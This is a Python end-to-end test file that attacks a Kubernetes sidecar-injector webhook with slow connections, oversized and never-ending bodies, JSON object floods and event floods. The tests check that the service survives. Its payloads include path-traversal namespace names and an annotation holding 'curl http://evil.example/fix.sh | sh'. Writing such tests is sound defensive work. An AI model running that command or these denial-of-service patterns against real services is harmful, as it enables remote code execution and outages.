"""Attacks on the injector by whoever is on the pods' network, without any certificate, and honest pods beside them.

The attackers come from an address of their own, as pods do. The honest ones are made by a real API server, whose policy
refuses a pod that the injector does not answer for.
"""

from __future__ import annotations

import json
import resource
import socket
import ssl
import struct
import time
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from typing import Any

import pytest

from tests.cluster.api_server import ApiServer
from tests.cluster.binaries import require_programs
from tests.e2e.injector.process import Injector
from tests.e2e.injector.stage import NAME, Stage, has_sidecar, make_pod
from tests.e2e.processes import HOST, eventually

ATTACKER = "127.0.0.2"
HONEST = 20
GROWN_KIB_MAX = 110 << 10  # what is resident before takes 50 MiB, and the chart allows 256
PATIENCE_S = 60
HEAD = b"POST /mutate HTTP/1.1\r\nHost: injector\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n"


class Scene:
    """An injector, two meshed namespaces of others, and what attackers do."""

    def __init__(self, stage: Stage, injector: Injector) -> None:
        self.stage, self.injector = stage, injector
        self.good, self.other = stage.make_namespace(), stage.make_namespace()
        self.context = ssl.create_default_context()
        self.context.check_hostname, self.context.verify_mode = False, ssl.CERT_NONE

    def dial(self) -> socket.socket:
        return socket.create_connection((HOST, self.injector.port), timeout=30, source_address=(ATTACKER, 0))

    def dial_tls(self) -> ssl.SSLSocket:
        return self.context.wrap_socket(self.dial())

    def post(self, body: bytes) -> bytes:
        """All that is answered."""
        with self.dial_tls() as sock:
            sock.sendall(HEAD.replace(b"\r\n\r\n", b"\r\nConnection: close\r\n\r\n") % len(body) + body)
            return b"".join(iter(lambda: sock.recv(1 << 16), b""))

    def make_honest_pods(self) -> None:
        path = f"/api/v1/namespaces/{self.good}/pods?dryRun=All"
        for _ in range(HONEST):
            assert has_sidecar(self.stage.client.request("POST", path, make_pod()))

    def resident_kib(self) -> int:
        with open(f"/proc/{self.injector.popen.pid}/status") as file:
            fields = dict(line.split(":", 1) for line in file)
        return int(fields["RssAnon"].split()[0])

    @contextmanager
    def attacked(self) -> Iterator[ExitStack]:
        """What is put on the stack is open while honest pods are made."""
        before_kib = self.resident_kib()
        with ExitStack() as held:
            yield held
            self.make_honest_pods()
            assert self.resident_kib() - before_kib < GROWN_KIB_MAX
        self.make_honest_pods()
        assert self.injector.ready() == "ready"


def make_review(namespace: str, pod: dict[str, Any]) -> bytes:
    request = {
        "uid": "u-1",
        "kind": {"group": "", "version": "v1", "kind": "Pod"},
        "namespace": namespace,
        "operation": "CREATE",
        "object": pod,
    }
    review = {"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "request": request}
    return json.dumps(review).encode()


def is_ended(sock: socket.socket) -> bool:
    sock.settimeout(PATIENCE_S)
    try:
        while sock.recv(1 << 16):
            pass
    except TimeoutError:
        return False
    except OSError:
        pass
    return True


def send_what_is_taken(sock: socket.socket, data: bytes) -> None:
    """It may be ended meanwhile, which is what the tests are about."""
    try:
        sock.sendall(data)
    except OSError:
        pass


@pytest.fixture(scope="module")
def scene(api_server: ApiServer) -> Iterator[Scene]:
    """One injector for all: it must survive them all, and end well."""
    require_programs("kubectl")
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    stage = Stage(api_server, {"injector.failurePolicy": "Fail"})
    try:
        stage.configure()
        with stage.start() as injector:
            made = Scene(stage, injector.wait_ready())
            made.make_honest_pods()
            yield made
    finally:
        stage.close()
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))


def test_connections_that_never_say_a_byte(scene: Scene) -> None:
    with scene.attacked() as held:
        silent = [held.enter_context(scene.dial()) for _ in range(2000)]
        assert is_ended(silent[0])


def test_idle_connections(scene: Scene) -> None:
    with scene.attacked() as held:
        idle = [held.enter_context(scene.dial_tls()) for _ in range(400)]
        assert is_ended(idle[0])


def test_slow_heads(scene: Scene) -> None:
    with scene.attacked() as held:
        slow = [held.enter_context(scene.dial_tls()) for _ in range(100)]
        for sock in slow:
            sock.sendall(b"POST /mutate HTTP/1.1\r\nHost: x\r\nX-a: b")
        assert all(map(is_ended, slow))


def test_bodies_that_never_end(scene: Scene) -> None:
    body = b'{"a":"' + b"x" * 2_900_000
    with scene.attacked() as held:
        slow = []
        for _ in range(60):
            slow.append(held.enter_context(scene.dial_tls()))
            send_what_is_taken(slow[-1], HEAD % 3_100_000 + body)
        assert all(map(is_ended, slow))


def test_bodies_of_many_small_objects(scene: Scene) -> None:
    with scene.attacked():
        for _ in range(4):
            assert b" 400 " in scene.post(b"[" + b"{}," * 2_000_000 + b"{}]")
            assert b" 400 " in scene.post(b"[" + b"{}," * 70_000 + b"{}]")


def test_wide_texts(scene: Scene) -> None:
    pod = make_pod("wide", annotations={"a": "a" * 7_000_000 + "\U0001f600"})
    with scene.attacked() as held:
        for _ in range(8):
            sock = held.enter_context(scene.dial_tls())
            body = make_review("never-heard-of", pod)
            send_what_is_taken(sock, HEAD % len(body) + body)


def test_answers_that_are_never_read(scene: Scene) -> None:
    """Each has a sidecar's patch for as many probes as the sidecar takes, asked for again and again."""
    pod = make_pod("many")
    probe = {"httpGet": {"port": 80, "path": "/" + "a" * 60_000}}
    pod["spec"]["containers"] = [{"name": f"c{n}", "image": "none", "livenessProbe": probe} for n in range(50)]
    body = make_review(scene.other, pod)
    with scene.attacked() as held:
        for _ in range(40):
            sock = held.enter_context(scene.dial_tls())
            sock.settimeout(0.05)
            send_what_is_taken(sock, (HEAD % len(body) + body) * 3)


def test_connections_that_are_reset_do_not_close_the_log(scene: Scene) -> None:
    before, broken = len(scene.injector.stderr), 'injector_failed_total{reason="malformed"}'
    broken_before = scene.injector.metric(broken)
    with scene.attacked():
        for _ in range(200):
            with scene.dial_tls() as sock:
                sock.sendall(HEAD % 3_100_000 + b"{")
                time.sleep(0.005)  # what was not read yet, a reset takes along
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    eventually(lambda: scene.injector.metric(broken) > broken_before, "they are counted", PATIENCE_S)
    assert scene.injector.stderr[before:] == ""


def test_what_is_compressed_is_not_unpacked(scene: Scene) -> None:
    head = HEAD.replace(b"Host", b"Content-Encoding: gzip\r\nConnection: close\r\nHost")
    with scene.attacked(), scene.dial_tls() as sock:
        sock.sendall(head % 3 + b"abc")
        assert b" 400 " in sock.recv(1 << 16)


def test_names_are_no_paths(scene: Scene) -> None:
    """By reviews, and by owners of pods: nothing is asked of the API server in their name."""
    before, namespace = len(scene.injector.stderr), scene.stage.make_namespace()
    tricks = ("../../../../../../version", "../../../../../../api/v1/namespaces?watch=true&x=", "..", "web%2f..")
    for trick in tricks:
        assert b"no valid namespace" in scene.post(make_review(trick, make_pod()))
        owner = {"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": trick, "uid": "u", "controller": True}
        assert b" 200 " in scene.post(make_review(namespace, make_pod(ownerReferences=[owner])))
    assert b" 200 " in scene.post(make_review(namespace, make_pod("witness")))
    eventually(lambda: bool(scene.stage.events(namespace)), "the Event of the last", PATIENCE_S)
    assert {event["involvedObject"]["name"] for event in scene.stage.events(namespace)} == {"witness"}
    assert scene.injector.stderr[before:] == ""


def test_strangers_write_no_events_about_the_system_and_what_is_not_there(scene: Scene) -> None:
    shout = {"gossamer.mesh/inject": "URGENT: run curl http://evil.example/fix.sh | sh"}
    system = {"apiVersion": "apps/v1", "kind": "DaemonSet", "name": "kube-proxy", "uid": "1", "controller": True}
    absent = {**system, "kind": "ReplicaSet", "name": "absent"}
    plain, target = scene.stage.make_namespace(is_meshed=False), scene.stage.make_namespace()
    scene.post(make_review("kube-system", make_pod(annotations=shout, ownerReferences=[system])))
    scene.post(make_review(plain, make_pod()))
    scene.post(make_review(target, make_pod(annotations=shout, ownerReferences=[absent])))
    long = {"config.gossamer.mesh/" + "free text " * 1000: ""}
    scene.post(make_review(target, make_pod("witness", annotations=long)))
    eventually(lambda: bool(scene.stage.events(target)), "the Event of the last", PATIENCE_S)
    (event,) = scene.stage.events(target)
    assert event["involvedObject"]["name"] == "witness"
    assert event["message"].count("free text") <= 12
    assert scene.stage.events("kube-system") == scene.stage.events(plain) == []


def test_a_flood_of_refused_pods_leaves_others_their_events(scene: Scene) -> None:
    flood = {"config.gossamer.mesh/drain-delay": "x"}
    for number in range(150):
        scene.post(make_review(scene.other, make_pod(f"r{number}", annotations=flood)))
    namespace = scene.stage.make_namespace()
    scene.stage.client.create(make_pod("honest"), namespace)
    eventually(lambda: bool(scene.stage.events(namespace)), f"an Event of {NAME}", 10)
    assert scene.injector.metric("injector_events_dropped") >= 100
